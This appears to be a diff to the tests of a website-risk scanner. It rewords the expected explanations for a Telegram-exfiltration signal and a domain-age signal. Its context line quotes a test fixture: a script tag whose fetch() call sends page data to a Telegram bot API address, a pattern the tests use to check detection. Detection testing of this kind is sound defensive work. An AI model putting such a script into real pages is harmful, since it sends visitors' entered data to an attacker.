@@ -143,7 +143,7 @@ BOT = "<script>fetch('https://api.telegram.org/bot5551234567:AAE4kd93kLmNoPqRsTu
 def test_a_chat_bot_weighs_less_where_nothing_can_be_typed(typed: str, weight: float) -> None:
     found = site(PLAIN + BOT + typed)
     assert nats(found, "http-telegram-exfil") == weight
-    assert reasons(found)["http-telegram-exfil"] == "the page holds the address of a chat bot to which it can send (telegram-bot)"
+    assert reasons(found)["http-telegram-exfil"] == "the page contains the address of a chat bot to which it can send data (telegram-bot)"
 
 
 def test_a_policy_that_sets_forged_mail_aside_is_not_said_to_refuse_it() -> None:
@@ -189,7 +189,7 @@ def test_a_registrar_is_told_by_its_number_and_its_whole_name(name: str, number:
 )
 def test_years_are_those_of_the_calendar(days: int, signal: str, years: int) -> None:
     aged = given(site(PLAIN), "registration", created=NOW - timedelta(days=days))
-    assert reasons(aged)[signal] == f"the name has been registered for {years} years"
+    assert reasons(aged)[signal] == f"the domain has been registered for {years} years"
 
 
 def test_three_leap_days_make_no_year_and_a_tenth_year_is_ten() -> None:
